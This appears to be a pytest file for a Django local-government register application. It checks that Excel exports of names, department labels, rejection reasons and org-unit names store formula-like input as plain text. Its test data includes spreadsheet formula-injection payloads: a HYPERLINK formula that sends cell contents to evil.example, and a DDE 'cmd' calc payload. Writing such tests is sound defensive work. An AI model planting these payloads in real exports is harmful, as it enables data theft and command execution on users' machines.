"""Finding 9 (issue 10): user text in an export must stay text, never a live formula.

The attack: a household member named `=HYPERLINK("http://evil/?"&A1,"点击")` becomes a
formula when a clerk opens the one-table workbook. Each export is loaded back with openpyxl
and the hostile cell must be a string cell (data type `s`) holding exactly what was typed.
"""

import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from gridgov.core import xlsx
from gridgov.core.models import OrgUnit, Role
from gridgov.register import services
from gridgov.register.models import Relation, ResidenceType
from tests.factories import PersonFactory, Tree, make_resident_id, make_user

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE_VARIANTS = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _client(user) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


def _cells(data) -> list:
    """The cells of a workbook given as bytes or as the open file an export writes (issue 12)."""
    sheet = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_text(cells: list, text: str) -> None:
    matching = [c for c in cells if c.value == text]
    assert matching, f"{text!r} is not in the workbook as typed"
    assert all(c.data_type == "s" for c in matching), [(c.coordinate, c.data_type) for c in matching]
    assert not any(c.data_type == "f" for c in cells)


@pytest.mark.parametrize("text", HOSTILE_VARIANTS)
def test_the_core_writer_keeps_every_formula_prefix_as_text(text):
    for write_only in (False, True):
        workbook = xlsx.new_workbook(write_only=write_only)
        sheet = workbook.create_sheet("t") if write_only else workbook.active
        xlsx.append_row(sheet, [text, 7, None])

        cells = [c for row in load_workbook(io.BytesIO(xlsx.workbook_bytes(workbook))).worksheets[-1].iter_rows()
                 for c in row]

        # (XML reads a carriage return back as a line feed; the cell stays text either way)
        assert (cells[0].value.replace("\n", "\r") if text.startswith("\r") else cells[0].value) == text
        assert cells[0].data_type == "s"
        assert (cells[1].value, cells[1].data_type) == (7, "n")  # numbers stay numbers


def test_a_control_character_in_a_name_does_not_break_the_export():
    workbook = xlsx.new_workbook()
    xlsx.append_row(workbook.active, ["张\x07三"])

    cell = load_workbook(io.BytesIO(xlsx.workbook_bytes(workbook))).active["A1"]

    assert cell.value == "张三"


def test_a_member_named_like_a_formula_stays_text_in_the_one_table_workbook(tree):
    screener = make_user("screener", Role.SCREENER, scope=Tree.VILLAGE_A)
    worker = make_user("gw", Role.GRID_WORKER, scope=Tree.CELL_A1, cells=[Tree.CELL_A1])
    building = services.building_create(actor=screener, address="幸福路 8 号", lat=31.005, lng=120.005,
                                        use="residential", units=["1单元101"])
    hostile = PersonFactory(name=HOSTILE[:50], resident_id=make_resident_id(birth="19800101", seq=41))
    services.household_create(actor=screener, building=building, unit_label="1单元101", members=[
        services.MemberSpec(hostile, Relation.HEAD, ResidenceType.REGISTERED_HERE, datetime.date(2010, 1, 1))])

    response = _client(worker).get(reverse("register-one-table-xlsx", args=[Tree.VILLAGE_A]))

    assert response.status_code == 200
    _assert_text(_cells(response.getvalue()), HOSTILE[:50])


def test_a_department_named_like_a_formula_stays_text_in_the_ranking_workbook():
    from gridgov.events.scoring import Indicators, ranking_workbook

    item = Indicators(key="990101-market", label=HOSTILE, due=1, closed=1, closed_on_time=1)

    _assert_text(_cells(ranking_workbook([item], title="2026-11")), HOSTILE)


def test_a_rejection_reason_like_a_formula_stays_text_in_the_handover_report(tree):
    from gridgov.care import services as care_services
    from tests.care.conftest import enroll

    officer = make_user("officer", Role.PROGRAM_OFFICER, scope=Tree.COUNTY_A)
    officer_b = make_user("officer_b", Role.PROGRAM_OFFICER, scope=Tree.COUNTY_B)
    staff = {"officer": officer, "gw": make_user("gw", Role.GRID_WORKER, scope=Tree.CELL_A1, cells=[Tree.CELL_A1]),
             "doctor": make_user("doctor", Role.CARE_WORKER, scope=Tree.TOWNSHIP_A)}
    person = PersonFactory(org_code=Tree.CELL_A1, resident_id=make_resident_id(birth="19700101", seq=71))
    enrollment = enroll(staff, person)
    handover = care_services.handover_create(actor=officer, enrollment=enrollment, to_org_code=Tree.CELL_B1,
                                             due_date=datetime.date.today(), reason="move")
    care_services.handover_reject(actor=officer_b, handover=handover, reason=HOSTILE)

    response = _client(officer).get("/care/handovers/report.xlsx")

    assert response.status_code == 200
    _assert_text(_cells(response.getvalue()), HOSTILE)


def test_an_org_unit_named_like_a_formula_stays_text_in_the_org_export(tree):
    from gridgov.core import org_io

    OrgUnit.objects.filter(code=Tree.CELL_A1).update(name=HOSTILE)

    data = b"".join(org_io.export_org_units(root_code=Tree.VILLAGE_A, fmt="xlsx"))

    _assert_text(_cells(data), HOSTILE)
